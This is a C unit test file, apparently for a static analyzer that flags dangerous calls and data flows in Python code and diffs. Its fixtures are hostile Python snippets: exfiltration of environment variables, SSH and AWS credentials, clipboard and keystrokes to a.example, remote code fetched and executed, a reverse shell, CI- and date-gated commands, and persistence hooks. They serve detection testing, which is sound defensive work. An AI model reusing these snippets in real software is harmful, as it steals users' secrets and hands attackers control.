/* Python: names and imports, flows, what runs at import, what is new, silence, gates, large members. */
#include "read/py_case.h"

#include "util/buf.h"

static void names_lead_to_the_same_call(void **state)
{
	static const char *const texts[] = {
		"import os\nos.system('id')\n",
		"import os as o\no.system('id')\n",
		"from os import system\nsystem('id')\n",
		"from os import system as s\ns('id')\n",
		"from os import *\nsystem('id')\n",
		"__import__('os').system('id')\n",
		"import importlib\nimportlib.import_module('os').system('id')\n",
		"import os\ngetattr(os, 'system')('id')\n",
		"import os\ngetattr(os, 'sys' + 'tem')('id')\n",
		"import os\nf = os.system\nf('id')\n",
		"import os\n{'a': os.system}['a']('id')\n",
		"import os\n(lambda x: os.system(x))('id')\n",
		"import os\nclass A:\n    def go(self, c):\n        os.system(c)\nA().go('id')\n",
		"import builtins\nbuiltins.__import__('os').system('id')\n",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(*texts); i++)
		py_says(texts[i], FACT_CALL, "os.system", NULL);
	py_says("import subprocess\nsubprocess.run(['curl', '-o', '/tmp/x', 'https://a.example/x'])\n", FACT_CALL, "subprocess.run",
		"curl -o /tmp/x https://a.example/x");
	py_says("import subprocess as sp\nsp.call('wget https://a.example/x', shell=True)\n", FACT_CALL, "subprocess.call", "wget https");
	py_says("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])\n", FACT_CALL,
		"subprocess.check_call", "python -m pip install x");
}

static void data_flows(void **state)
{
	static const struct {
		const char *text, *flow, *value;
	} rows[] = {
		{"import urllib.request\nexec(urllib.request.urlopen('https://a.example/x').read())\n", "net>code", "a.example"},
		{"import requests\nr = requests.get(url='https://a.example/x')\nif r.ok:\n    exec(compile(r.text, 'x', 'exec'))\n", "net>code",
			"a.example"},
		{"import requests, os\nrequests.post('https://a.example/', json={'e': dict(os.environ)})\n", "env>net", "a.example"},
		{"import os, json\nfrom urllib import request\nbody = json.dumps({k: v for k, v in os.environ.items()}).encode()\n"
		 "request.urlopen(request.Request('https://a.example/c', data=body))\n", "env>net", "a.example"},
		{"import os, requests\ndef send(x):\n    requests.post('https://a.example/', data=x)\nsend(x=open(os.path.expanduser('~/.aws/credentials')).read())\n",
			"cred>net", "a.example"},
		{"import os, requests\nfor p in ['~/.ssh/id_rsa', '~/.pypirc']:\n    with open(os.path.expanduser(p)) as f:\n        requests.post('https://a.example/', data=f.read())\n",
			"cred>net", "a.example"},
		{"from pathlib import Path\nimport httpx\nhttpx.post('https://a.example/', content=(Path.home() / '.ssh' / 'id_rsa').read_bytes())\n",
			"cred>net", "a.example"},
		{"import socket, platform, getpass, requests\nrequests.get('https://a.example/?h=' + socket.gethostname() + getpass.getuser())\n",
			"host>net", "a.example"},
		{"import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\nwhile True:\n    exec(s.recv(4096))\n", "net>code", "192.0.2.7"},
		{"import requests, pickle\npickle.loads(requests.get('https://a.example/m').content)\n", "net>code", "a.example"},
		{"import requests, os\nopen('/tmp/u.py', 'wb').write(requests.get('https://a.example/u').content)\nos.system('python /tmp/u.py')\n",
			"net>run", "a.example"},
		{"import urllib.request, subprocess, os\np = os.path.join(os.environ['TEMP'], 'u.exe')\n"
		 "urllib.request.urlretrieve('https://a.example/u.exe', p)\nsubprocess.Popen([p])\n", "net>run", "a.example"},
		{"import pyperclip, requests\nrequests.post('https://a.example/', data={'c': pyperclip.paste()})\n", "clip>net", "a.example"},
		{"from pynput import keyboard\nimport requests\ndef on(key):\n    requests.post('https://a.example/', data=str(key))\n"
		 "keyboard.Listener(on_press=on).start()\n", "form>net", "a.example"},
		{"import http.client, os\nc = http.client.HTTPSConnection('a.example')\nc.request('POST', '/x', str(os.environ))\n", "env>net",
			"a.example"},
		{"import smtplib, os\ns = smtplib.SMTP('mail.a.example', 25)\ns.sendmail('a', 'b', '%s' % (dict(os.environ),))\n", "env>net", "mail.a.example"},
		{"import socket, os\nsocket.gethostbyname('{}.a.example'.format(socket.gethostname()))\n", "host>net", "a.example"},
		{"import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n", "data>persist", "~/.bashrc"},
		{"from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAAABk'))\n", "data>code", NULL},
		{"import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode(b'eJwDAAAAAAE='))))\n", "data>code", NULL},
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++)
		py_says(rows[i].text, FACT_FLOW, rows[i].flow, rows[i].value);
	py_says("import socket, os, pty\ns = socket.socket()\ns.connect(('a.example', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
		FACT_FLOW, "net>exec", NULL);
	py_says("import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n",
		FACT_PATH, "persist", "CurrentVersion");
}

static void ordinary_code_has_no_flow(void **state)
{
	static const char *const texts[] = {
		"import requests\ndef fetch(url):\n    return requests.get(url, timeout=3).json()\n",
		"import os\nDEBUG = os.environ.get('DEBUG') == '1'\n",
		"import json\nwith open('config.json') as f:\n    config = json.load(f)\n",
		"import subprocess\ndef run(cmd):\n    return subprocess.check_output(cmd)\n",
		"from setuptools import setup\nexec(open('pkg/version.py').read())\nsetup(name='x', version=__version__)\n",
		"import pickle\ndef load(path):\n    with open(path, 'rb') as f:\n        return pickle.load(f)\n",
		"import base64\ndef b(x):\n    return base64.b64decode(x)\n",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(*texts); i++) {
		py_says_no(texts[i], FACT_FLOW, NULL);
		py_says_no(texts[i], FACT_UNRESOLVED, NULL);
	}
}

static const struct fact *flow_of(struct js_case *c)
{
	const struct fact *f = js_case_find(c, FACT_FLOW, NULL, NULL);

	assert_non_null(f);
	return f;
}

static void when_and_how_it_runs(void **state)
{
	struct js_case *c = py_run("import requests\ndef later():\n    exec(requests.get('https://a.example/').text)\n");

	(void)state;
	assert_false(flow_of(c)->flags & FACT_TOP_LEVEL);
	js_case_free(c);
	c = py_run("import requests\ndef later():\n    try:\n        exec(requests.get('https://a.example/').text)\n    except Exception:\n        pass\nlater()\n");
	assert_true(flow_of(c)->flags & FACT_TOP_LEVEL);
	assert_true(flow_of(c)->flags & FACT_SILENT);
	js_case_free(c);
	c = py_run("import requests, threading\ndef later():\n    exec(requests.get('https://a.example/').text)\nthreading.Thread(target=later, daemon=True).start()\n");
	assert_true(flow_of(c)->flags & FACT_TOP_LEVEL);
	js_case_free(c);
	c = py_run("import requests\nfrom setuptools.command.install import install\nclass After(install):\n    def run(self):\n        install.run(self)\n"
		   "        exec(requests.get('https://a.example/').text)\n");
	assert_true(flow_of(c)->flags & FACT_TOP_LEVEL);
	js_case_free(c);
	py_says("import os, requests\nif os.environ.get('CI') is None:\n    os.system('curl https://a.example/x')\n", FACT_GATE, "ci", NULL);
	py_says("import datetime, os\nif datetime.date.today().year > 2030:\n    os.system('id')\n", FACT_GATE, "date", NULL);
	py_says("while True:\n    x = 1\n", FACT_LOOP, "endless", NULL);
	py_says("import requests\nrequests.get('https://a.example/', verify=False)\n", FACT_TRUST, "tls-verify-off", NULL);
	py_says("import requests\noptions = {'verify': False}\nrequests.get('https://a.example/', **options)\n", FACT_TRUST, "tls-verify-off", NULL);
	py_says_no("from lib import safe_sort\nsafe_sort([3, 1], verify=False)\n", FACT_TRUST, "tls-verify-off");
}

static void only_what_is_new_is_said(void **state)
{
	static const char old[] = "import os\nimport requests\n\n\ndef send(x):\n    requests.post('https://api.vendor.example/', data=x)\n\n\ndef name():\n    return os.environ['USER']\n";
	static const char moved[] = "import os\nimport requests\n\n\ndef name():\n    return os.environ['USER']\n\n\ndef send(x):\n    requests.post('https://api.vendor.example/', data=x)\n";
	static const char worse[] = "import os\nimport requests\n\n\ndef send(x):\n    requests.post('https://api.vendor.example/', data=x)\n\n\ndef name():\n    send(dict(os.environ))\n    return os.environ['USER']\n";
	struct js_case *c = py_pair(old, old);
	const struct fact *f;

	(void)state;
	assert_int_equal(c->n, 0);
	js_case_free(c);
	c = py_pair(old, moved);
	assert_null(js_case_find(c, FACT_FLOW, NULL, NULL));
	assert_null(js_case_find(c, FACT_HOST, NULL, NULL));
	js_case_free(c);
	c = py_pair(old, worse);
	f = js_case_find(c, FACT_FLOW, "env>net", "api.vendor.example");
	assert_non_null(f);
	assert_true(f->flags & FACT_NEW_SOURCE);
	assert_false(f->flags & FACT_NEW_SINK);
	assert_int_equal(f->line, 6);
	js_case_free(c);
}

static void a_large_member_is_read_in_parts(void **state)
{
	struct buf old, now;
	struct js_case *c;
	const struct fact *f;

	(void)state;
	buf_init(&old, 4 << 20);
	buf_init(&now, 4 << 20);
	buf_add_z(&old, "import os\nimport requests\n\nclass Big:\n");
	for (int i = 0; i < 20000; i++)
		buf_printf(&old, "    def f%d(self, a):\n        return a + %d\n", i, i);
	buf_add_str(&now, buf_str(&old));
	buf_add_z(&now, "    def last(self):\n        requests.post('https://a.example/', data=str(dict(os.environ)))\n");
	c = js_case_steps(LANGUAGE_PYTHON, buf_str(&old), buf_str(&now), 2000000000);
	f = js_case_find(c, FACT_FLOW, "env>net", "a.example");
	assert_non_null(f);
	assert_int_equal(f->line, 40006);
	assert_null(js_case_find(c, FACT_PARSE_ERROR, NULL, NULL));
	js_case_free(c);
	buf_release(&old);
	buf_release(&now);
}

/* An installer that carries what it installs: the literal is shortened, what is done with it is read. */
static void a_giant_literal_is_shortened(void **state)
{
	static const char *const quotes[][2] = {{"b\"\"\"", "\"\"\""}, {"'", "'"}};

	(void)state;
	for (size_t q = 0; q < 2; q++) {
		struct js_case *c;
		struct buf b;

		buf_init(&b, 4 << 20);
		buf_add_z(&b, "import os\nimport requests\ndef unpack(archive = ");
		buf_add_z(&b, quotes[q][0]);
		for (int i = 0; i < 40000; i++)
			buf_add_z(&b, q ? "P)h>@6aWAK2mnY{22Rwa0RS#kP)h>@6aWAK2mnY{" : "P)h>@6aWAK2mnY{22Rwa0RS#kP)h>@6aWAK2mnY\n");
		buf_add_z(&b, quotes[q][1]);
		buf_add_z(&b, "):\n    requests.post('https://a.example/', data=str(dict(os.environ)))\nunpack()\n");
		c = js_case_steps(LANGUAGE_PYTHON, STR_NONE, buf_str(&b), 200000000);
		assert_int_equal(c->status, STATUS_OK);
		assert_non_null(js_case_find(c, FACT_FLOW, "env>net", "a.example"));
		assert_null(js_case_find(c, FACT_PARSE_ERROR, NULL, NULL));
		js_case_free(c);
		buf_release(&b);
	}
}

static void broken_and_deep_texts_are_read(void **state)
{
	struct buf b;

	(void)state;
	py_says("def f(:\n  x = = 3\nimport os\nos.system('curl https://a.example/x')\n", FACT_HOST, "a.example", NULL);
	buf_init(&b, 1 << 20);
	for (int i = 0; i < 30000; i++)
		buf_add_z(&b, "(");
	buf_add_z(&b, "\n");
	js_case_free(js_case_steps(LANGUAGE_PYTHON, STR_NONE, buf_str(&b), 200000000));
	buf_clear(&b);
	buf_add_z(&b, "x = 'a'");
	for (int i = 0; i < 20000; i++)
		buf_add_z(&b, " + 'b'");
	buf_add_z(&b, "\nimport os\nos.system('curl https://a.example/x')\n");
	{
		struct js_case *c = js_case_steps(LANGUAGE_PYTHON, STR_NONE, buf_str(&b), 200000000);

		assert_non_null(js_case_find(c, FACT_HOST, "a.example", NULL));
		js_case_free(c);
	}
	buf_release(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(names_lead_to_the_same_call),
		cmocka_unit_test(data_flows),
		cmocka_unit_test(ordinary_code_has_no_flow),
		cmocka_unit_test(when_and_how_it_runs),
		cmocka_unit_test(only_what_is_new_is_said),
		cmocka_unit_test(a_large_member_is_read_in_parts),
		cmocka_unit_test(a_giant_literal_is_shortened),
		cmocka_unit_test(broken_and_deep_texts_are_read),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
